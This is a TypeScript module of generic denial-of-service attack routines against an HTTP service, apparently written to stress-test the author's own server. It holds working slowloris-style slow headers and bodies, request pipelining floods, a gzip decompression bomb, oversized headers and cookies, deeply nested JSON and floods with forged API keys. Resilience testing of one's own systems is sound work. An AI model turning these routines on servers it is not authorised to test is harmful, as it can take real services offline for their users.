import { setTimeout as wait } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import type { Headers, Place, Target } from './target';
import {
  type Attack,
  again,
  closed,
  connect,
  countAnswers,
  exchange,
  head,
  hex,
  whole,
} from './wire';

// What can be sent to any route, by those who know nothing of it.

const targetOf = ({ targets }: Place, turn: number): Target =>
  targets[turn % targets.length] ?? { method: 'GET', path: '/' };

const keyOf = ({ keys }: Place, turn: number): Headers => ({
  'X-API-Key': keys[turn % keys.length] ?? '',
});

const atOnce = 16;

/** Headers a byte at a time. */
const slowHeaders: Attack = (place, answers) =>
  again(atOnce, async (turn) => {
    const socket = connect(place, answers);
    countAnswers(socket, answers);
    const text = head(targetOf(place, turn), keyOf(place, turn));
    for (let at = 0; at < text.length - 1 && !socket.destroyed; at++) {
      socket.write(text.charAt(at));
      await wait(100);
    }
    socket.destroy();
  });

/** The beginning of a body, and then a byte at a time. */
const slowBodies: Attack = (place, answers) =>
  again(60, async (turn) => {
    const socket = connect(place, answers);
    countAnswers(socket, answers);
    const target = { ...targetOf(place, turn), method: 'POST' };
    const headers = { 'Content-Type': 'application/json', 'Content-Length': '1000' };
    socket.write(`${head(target, { ...headers, ...keyOf(place, turn) })}{`);
    for (let at = 0; at < 990 && !socket.destroyed; at++) {
      socket.write(' ');
      await wait(200);
    }
    socket.destroy();
  });

/** Twenty requests on a connection whose answers are not read. */
const unreadAnswers: Attack = (place, answers) =>
  again(atOnce, async (turn) => {
    const socket = connect(place, answers).pause();
    const request = whole(targetOf(place, turn), keyOf(place, turn));
    for (let at = 0; at < 20; at++) socket.write(request);
    await Promise.race([closed(socket), wait(10_000)]);
    socket.destroy();
  });

const header = (name: string, length: number) => ({ [name]: 'x'.repeat(length) });

/** Bodies, addresses, headers and cookies of the largest size that passes a part of the server. */
const large: Attack = (place, answers) => {
  const { largest } = place;
  const arrays = `{"email":"a@example.com","password":"x","z":[${'[],'.repeat(largest / 8)}[]]}`;
  const text = `{"email":"${'x'.repeat(largest)}"}`;
  const keys = `{${Array.from({ length: 90_000 }, (_, n) => `"k${n}":1`).join()}}`;
  const bomb = gzipSync(Buffer.alloc(largest * 4, ' '));
  const pieces = '1\r\n \r\n'.repeat(200_000);
  const many = Object.fromEntries(Array.from({ length: 1_900 }, (_, n) => [`X-${n}`, 'x']));
  const post = (target: Target) => ({ ...target, method: 'POST' });
  const longer = (target: Target, length: number) => ({
    ...target,
    path: `${target.path}${target.path.includes('?') ? '&' : '?'}q=${'x'.repeat(length)}`,
  });
  const requests: ((target: Target, key: Headers) => (Buffer | string)[])[] = [
    (target) => [whole(post(target), {}, arrays)],
    (target, key) => [whole(post(target), key, arrays)],
    (target, key) => [whole(post(target), key, text)],
    (target, key) => [whole(post(target), key, keys)],
    (target, key) => [
      head(post(target), {
        ...{ 'Content-Type': 'application/json', 'Content-Encoding': 'gzip', ...key },
        'Content-Length': String(bomb.length),
      }),
      bomb,
    ],
    (target, key) => [
      head(post(target), {
        ...{ 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked', ...key },
      }),
      pieces,
      '0\r\n\r\n',
    ],
    (target, key) => [whole(longer(target, 60_000), key)],
    (target, key) => [whole(longer(target, 70_000), key)],
    (target) => [whole(target, header('Cookie', 60_000))],
    (target) => [
      whole(target, { Cookie: `better-auth.session_token=${'x'.repeat(30_000)}.${hex(44)}` }),
    ],
    (target) => [whole(target, header('Authorization', 60_000))],
    (target, key) => [whole(target, { ...header('Accept-Language', 60_000), ...key })],
    (target, key) => [whole(target, { ...many, ...key })],
    (target, key) => [whole(target, { 'X-Forwarded-For': '1.1.1.1,'.repeat(7_000), ...key })],
  ];
  return again(3, (turn) => {
    const target = targetOf(place, turn);
    const kind = turn + Math.floor(turn / place.targets.length);
    const request = requests[kind % requests.length]?.(target, keyOf(place, turn)) ?? [];
    return exchange(place, answers, request);
  });
};

/** JSON and parameters that nest. */
const deep: Attack = (place, answers) => {
  const bodies = [
    '['.repeat(50_000) + ']'.repeat(50_000),
    `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
    `{"action":"a","resource_type":"b","details":${'['.repeat(60)}${']'.repeat(60)}}`,
    '['.repeat(400_000),
  ];
  return again(4, (turn) => {
    const target = targetOf(place, turn + Math.floor(turn / 5));
    const body = bodies[turn % 5];
    const request =
      body === undefined
        ? whole({ ...target, path: `${target.path}?action${'[a]'.repeat(10_000)}=1` })
        : whole({ ...target, method: 'POST' }, keyOf(place, turn), body);
    return exchange(place, answers, [request]);
  });
};

/** Many at once: without a credential, with keys that do not exist, and with the attacker's own. */
const many: Attack = (place, answers) =>
  again(24, (turn) => {
    const target = targetOf(place, turn);
    const credential: Headers[] = [
      {},
      { 'X-API-Key': `hs_live_${hex(64)}` },
      { Cookie: `better-auth.session_token=${hex(32)}.${hex(44)}` },
      keyOf(place, turn),
    ];
    return exchange(place, answers, [whole(target, credential[turn % 4])]);
  });

/** Fifty requests at a time on each connection, whose answers are read. */
const pipelined: Attack = (place, answers) =>
  again(2, async (turn) => {
    const socket = connect(place, answers);
    let open = 50;
    countAnswers(socket, answers, () => {
      if (--open === 0) socket.destroy();
    });
    const request = whole(targetOf(place, turn), turn % 2 ? keyOf(place, turn) : {});
    for (let at = 0; at < 50; at++) socket.write(request);
    await Promise.race([closed(socket), wait(5_000)]);
    socket.destroy();
  });

export const generic: Record<string, Attack> = {
  slowHeaders,
  slowBodies,
  unreadAnswers,
  large,
  deep,
  many,
  pipelined,
};

export const genericNames = Object.keys(generic);
